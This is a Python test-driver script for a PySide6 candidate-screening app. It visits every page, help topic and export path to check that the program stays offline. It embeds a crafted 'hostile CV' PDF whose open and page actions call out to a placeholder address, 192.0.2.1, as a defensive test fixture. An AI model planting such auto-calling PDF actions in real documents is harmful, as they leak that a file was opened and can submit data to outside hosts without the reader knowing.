"""A whole run of the program for `test_no_network`: every page, help, palette, export, a hostile CV, lock, end.

`python walk_offline.py FOLDER` prints the pages it was on; what it asks the system for, the caller watches.
"""

from __future__ import annotations

import sys
from pathlib import Path

from PySide6.QtCore import QEventLoop, QTimer

from reports.verify import verify
from screening import documents
from screening.figures import results
from screening.interviewing import interviews
from screening.jobs import applications, jobs
from screening.people import attachments
from screening.settings import Settings
from tests.exported import export_candidate
from ui.app import make_application
from ui.dialogs.attachment_window import AttachmentWindow
from ui.help.topics import TOPICS
from ui.help.window import show_help
from ui.main_window import MainWindow
from ui.navigation import RAIL, REACHED_THROUGH
from ui.palette.window import open_palette
from ui.program import Program
from ui.workspaces import fill_sample

# Whoever opens this would have something fetched from elsewhere, if its reader did that.
CALLING = b"""%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction <</S/URI/URI(http://192.0.2.1/opened)>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/SubmitForm/F(http://192.0.2.1/form)>>>>>> endobj
trailer <</Root 1 0 R>>
%%EOF
"""


def main(folder: Path) -> None:
    """Go everywhere once."""
    app = make_application()
    path = folder / "contoh.db"
    fill_sample(path, "Rina Wijaya")
    settings = Settings.load(folder / "settings.json")
    settings.set("your_name", "Rina Wijaya")
    program = Program(app, settings)
    window = program.start(path, ask=False)
    assert window is not None
    program.settle()
    _settle()
    print("home")
    _pages(window)
    _documents(window, folder)
    for topic in TOPICS:
        show_help(topic, window)
        _settle(20)
    open_palette(window).close()
    window.lock.lock()
    window.lock.unlock()
    window.close()
    program.close()
    print("end")


def _pages(window: MainWindow) -> None:
    workspace = window.session.workspace
    job = jobs.rows(workspace)[0].job.id
    row = interviews.rows(workspace)[0]
    person = applications.rows(workspace, job_id=job)[0].application.candidate_id
    attachments.add(workspace, candidate_id=person, name="CV.pdf", content=CALLING)
    records = {
        "job": job,
        "candidate": person,
        "interview": row.interview.id,
        "kit": row.interview.id,
        "debrief": job,
        "compare": job,
    }
    for page in (*(one.name for one in RAIL), *REACHED_THROUGH):
        if page in {"drafting", "editor"}:
            continue  # they ask for a file first
        window.go(page, records.get(page, ""))
        _settle()
        print(page)
    shown = AttachmentWindow(window.session, attachments.of_candidate(workspace, person)[0], window)
    shown.show()
    _settle()
    shown.close()


def _documents(window: MainWindow, folder: Path) -> None:
    workspace = window.session.workspace
    one = next(
        row.application.id
        for row in applications.rows(workspace)
        if results.application_result(workspace, row.application.id).scorecards
    )
    export_candidate(workspace, application_id=one, language="id", out=folder / "ringkasan.pdf")
    content = documents.content(workspace, documents.rows(workspace)[0].id)
    print(verify(workspace, content).code)


def _settle(milliseconds: int = 200) -> None:
    loop = QEventLoop()
    QTimer.singleShot(milliseconds, loop.quit)
    loop.exec()


if __name__ == "__main__":
    main(Path(sys.argv[1]))
